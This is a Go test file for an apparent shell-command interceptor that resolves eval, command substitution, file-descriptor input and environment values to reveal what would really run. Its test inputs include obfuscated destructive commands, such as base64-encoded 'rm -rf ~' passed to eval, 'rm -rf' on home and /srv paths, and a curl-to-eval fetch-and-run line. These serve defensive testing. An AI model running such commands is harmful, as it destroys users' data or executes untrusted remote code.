package interceptor

import (
	"strings"
	"testing"
)

// analyzeLines analyses src in the test context changed by edit.
func analyzeLines(src string, edit func(*Context)) []string {
	ctx := testContext()
	if edit != nil {
		edit(&ctx)
	}
	return lines(Analyze(src, ctx))
}

func TestKnownCommandSubstitution(t *testing.T) {
	cases := []struct {
		src  string
		want []string
	}{
		// Pure producers: the output is known and substituted.
		{`echo "$(echo hi)"`, []string{"echo hi", "echo hi"}},
		{`echo "[$(printf '%s-%s' a b)]"`, []string{"printf %s-%s a b", "echo [a-b]"}},
		{`echo "$(printf 'a\n\n\n')"`, []string{`printf a\n\n\n`, "echo a"}},
		{`eval "$(echo cm0gLXJmIH4K | base64 -d)"`, []string{"echo cm0gLXJmIH4K", "base64 -d", "eval 'rm -rf ~'", "rm -rf /home/u"}},
		{`eval "$(base64 -d <<'EOF'
cm0gLXJmIH4K
EOF
)"`, []string{"base64 -d", "eval 'rm -rf ~'", "rm -rf /home/u"}},
		{`eval "$(echo 'cm0gLXJmIH4K' | base64 -d 2>/dev/null)"`, []string{"echo cm0gLXJmIH4K", "base64 -d", "eval 'rm -rf ~'", "rm -rf /home/u"}},
		{`eval "$(cat setup.sh)"`, []string{"cat setup.sh", "eval 'rm -rf ~/cache'", "rm -rf /home/u/cache"}},
		{`eval "$(cat <<EOF
rm -rf ~/x
EOF
)"`, []string{"cat", "eval 'rm -rf ~/x'", "rm -rf /home/u/x"}},
		{`X=$(echo ~/a); rm -rf "$X"`, []string{"echo /home/u/a", "rm -rf /home/u/a"}},
		{`$(echo rm) -rf ~`, []string{"echo rm", "rm -rf /home/u"}},
		{`cd /srv; echo "$(pwd)"`, []string{"cd /srv", "pwd", "echo /srv"}},
		{`echo "$(builtin pwd)"`, []string{"pwd", "echo /home/u/code/app"}},
		{`echo "$(command echo x)"`, []string{"echo x", "echo x"}},
		// Not pure, or output not known: unknown, and still analysed.
		{`eval "$(curl -s https://x | base64 -d)"`, []string{"curl -s https://x", "base64 -d", "eval …", "?"}},
		{`eval "$(echo a; echo b)"`, []string{"echo a", "echo b", "eval …", "?"}},
		{`eval "$(echo a && echo b)"`, []string{"echo a", "echo b", "eval …", "?"}},
		{`eval "$(echo rm -rf ~ > /tmp/f)"`, []string{"echo rm -rf /home/u", "eval …", "?"}},
		{`eval "$(echo rm -rf ~ >&2)"`, []string{"echo rm -rf /home/u", "eval …", "?"}},
		{`eval "$(echo rm -rf ~ 1>&2)"`, []string{"echo rm -rf /home/u", "eval …", "?"}},
		{`eval "$(base64 -d <<< notbase64!)"`, []string{"base64 -d", "eval …", "?"}},
		{`eval "$(echo x &)"`, []string{"echo x", "eval …", "?"}},
		{`eval "$(echo x |& cat)"`, []string{"echo x", "cat", "eval …", "?"}},
		{`eval "$(f)"`, []string{"f", "eval …", "?"}},
		{`eval "$(cat missing.sh)"`, []string{"cat missing.sh", "eval …", "?"}},
		{`eval "$(cat)"`, []string{"cat", "eval …", "?"}},
		{`eval "$(pwd -P)"`, []string{"pwd -P", "eval …", "?"}},
		{`eval "$(echo $UNSET_THING)"`, []string{"echo …", "eval …", "?"}},
		{`eval "$(X=1)"`, []string{"eval …", "?"}},
		{`cd "$UNSET_DIR"; echo "$(pwd)"`, []string{"cd …", "pwd", "echo …"}},
	}
	for _, c := range cases {
		got := analyzeLines(c.src, nil)
		if strings.Join(got, "\n") != strings.Join(c.want, "\n") {
			t.Errorf("%q:\n got  %q\n want %q", c.src, got, c.want)
		}
	}
}

func TestEvalEndOfOptions(t *testing.T) {
	cases := []struct {
		src  string
		want []string
	}{
		{`eval -- 'rm -rf ~'`, []string{"eval -- 'rm -rf ~'", "rm -rf /home/u"}},
		{`builtin eval -- "X=/srv" && rm -rf "$X"`, []string{"eval -- X=/srv", "rm -rf /srv"}},
		{`eval -- "$UNSET_THING"`, []string{"eval -- …", "?"}},
	}
	for _, c := range cases {
		got := analyzeLines(c.src, nil)
		if strings.Join(got, "\n") != strings.Join(c.want, "\n") {
			t.Errorf("%q:\n got  %q\n want %q", c.src, got, c.want)
		}
	}
}

func TestFileDescriptorInput(t *testing.T) {
	fds := func(ctx *Context) { ctx.Fds = map[int]string{3: "X=/srv/data\n"} }
	cases := []struct {
		src  string
		edit func(*Context)
		want []string
	}{
		// What guard read from fd 3 is known, once.
		{`snap=$(command cat <&3) && eval -- "$snap" && rm -rf "$X"`, fds,
			[]string{"cat", "eval -- X=/srv/data", "rm -rf /srv/data"}},
		{`snap=$(cat 0<&3); eval "$snap"; rm -rf "$X"`, fds,
			[]string{"cat", "eval X=/srv/data", "rm -rf /srv/data"}},
		{`a=$(cat <&3); b=$(cat <&3); eval "$b"`, fds,
			[]string{"cat", "cat", "eval …", "?"}},
		// A descriptor guard did not read is unknown.
		{`snap=$(cat <&3); eval "$snap"`, nil, []string{"cat", "eval …", "?"}},
		{`snap=$(cat <&4); eval "$snap"`, fds, []string{"cat", "eval …", "?"}},
		{`bash <&3`, nil, []string{"bash", "?"}},
		{`bash <&3`, func(ctx *Context) { ctx.Fds = map[int]string{3: "rm -rf ~/x\n"} }, []string{"bash", "rm -rf /home/u/x"}},
		// Redirections of other descriptors leave stdin alone.
		{`echo hi | cat 4<&3`, fds, []string{"echo hi", "cat"}},
	}
	for _, c := range cases {
		got := analyzeLines(c.src, c.edit)
		if strings.Join(got, "\n") != strings.Join(c.want, "\n") {
			t.Errorf("%q:\n got  %q\n want %q", c.src, got, c.want)
		}
	}
}

func TestExactEnvironment(t *testing.T) {
	exact := func(ctx *Context) { ctx.EnvExact = true }
	cases := []struct {
		src  string
		edit func(*Context)
		want []string
	}{
		{`eval "${NOT_SET:-}"`, exact, []string{"eval ''"}},
		{`eval "${NOT_SET:-}"`, nil, []string{"eval …", "?"}},
		{`rm -rf "/srv/$NOT_SET"`, exact, []string{"rm -rf /srv/"}},
		{`rm -rf "/srv/$NOT_SET"`, nil, []string{"rm -rf /srv/…"}},
		{`echo "$KNOWN"`, exact, []string{"echo /srv/known"}},
		// What bash sets itself stays unknown.
		{`echo "$RANDOM $PPID $BASH_VERSION $SHELL"`, exact, []string{"echo '… … … …'"}},
		{`echo "$$ $!"`, exact, []string{"echo '… …'"}},
		// Remote hosts have their own environment.
		{`ssh h 'echo $NOT_SET'`, exact, []string{"ssh h 'echo $NOT_SET'", "echo …"}},
	}
	for _, c := range cases {
		got := analyzeLines(c.src, c.edit)
		if strings.Join(got, "\n") != strings.Join(c.want, "\n") {
			t.Errorf("%q:\n got  %q\n want %q", c.src, got, c.want)
		}
	}
}

func TestDirnameBasename(t *testing.T) {
	for _, c := range []struct{ in, dir, base string }{
		{"/usr/bin/", "/usr", "bin"}, {"stdio.h", ".", "stdio.h"}, {"/", "/", "/"},
		{"//", "/", "/"}, {"", ".", ""}, {"/a", "/", "a"}, {"a/b//c//", "a/b", "c"}, {"./run.sh", ".", "run.sh"},
	} {
		if got := dirName(c.in); got != c.dir {
			t.Errorf("dirname %q = %q, want %q", c.in, got, c.dir)
		}
		if got := baseNameOf(c.in); got != c.base {
			t.Errorf("basename %q = %q, want %q", c.in, got, c.base)
		}
	}
	got := analyzeLines("cat > /tmp/run.sh <<'X'\ncd \"$(dirname \"$0\")\"\nrm -rf dist\nX\nbash /tmp/run.sh", nil)
	want := []string{"cat", "bash /tmp/run.sh", "dirname /tmp/run.sh", "cd /tmp", "rm -rf dist"}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("script that cds to its own directory:\n got  %q\n want %q", got, want)
	}
	got = analyzeLines(`f=$(basename /x/report.txt .txt); echo "$f"`, nil)
	if got[len(got)-1] != "echo report" {
		t.Errorf("basename with a suffix: %q", got)
	}
}
